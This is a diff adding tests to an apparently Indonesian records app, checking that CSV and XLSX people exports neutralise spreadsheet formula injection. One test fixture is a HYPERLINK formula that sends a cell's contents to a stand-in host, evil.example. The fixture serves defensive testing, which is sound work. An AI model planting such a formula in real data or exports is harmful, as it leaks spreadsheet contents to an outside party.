@@ -53,3 +53,22 @@ def test_export_never_contains_closed_records_of_another_agency(client_a, agency
     DecreeFactory(agency=agency_b, classification="limited", title="Biasa B")
     text = b"".join(client_a.get("/org/decrees/export/?format=csv").streaming_content).decode()
     assert "Biasa B" in text and "Rahasia B" not in text
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+
+
+def test_csv_export_prefixes_cells_a_spreadsheet_would_evaluate(client_a, agency_a):
+    PersonFactory(agency=agency_a, name=FORMULA_NAME, position="@SUM(1+1)")
+    PersonFactory(agency=agency_a, name="Budi", position="-")
+    rows = _csv_rows(client_a.get("/org/people/export/?columns=name&columns=position&sort=name&format=csv"))
+    assert rows[1:] == [["'" + FORMULA_NAME, "'@SUM(1+1)"], ["Budi", "'-"]]
+
+
+def test_xlsx_export_writes_formula_text_as_a_string_cell(client_a, agency_a):
+    PersonFactory(agency=agency_a, name=FORMULA_NAME, position="+62 811")
+    response = client_a.get("/org/people/export/?columns=name&columns=position&format=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    name, position = sheet["A2"], sheet["B2"]
+    assert (name.value, name.data_type) == (FORMULA_NAME, "s")
+    assert (position.value, position.data_type) == ("+62 811", "s")
